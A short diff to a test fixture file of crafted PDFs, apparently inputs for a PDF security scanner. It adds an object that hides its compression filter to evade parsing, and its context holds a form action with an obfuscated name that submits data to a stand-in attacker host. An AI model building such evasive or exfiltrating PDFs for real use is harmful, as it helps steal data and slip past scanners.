@@ -44,6 +44,13 @@ export const sealedPdfs: Record<string, Buffer> = {
   'objects of no type that do not inflate': makePdf({
     objects: [encoded('/FlateDecode', 'abc').replace('/Type /ObjStm', '')],
   }),
+  'objects whose dictionary hides its filter before the beginning of another': makePdf({
+    objects: [
+      pack(script)
+        .replace(' /Filter /FlateDecode', '')
+        .replace('/Type', '/Filter /FlateDecode /X objx /Type'),
+    ],
+  }),
   'a form that sends data': makePdf({
     objects: ['<</S /Submit#46orm /F (https://evil.example)>>'],
   }),
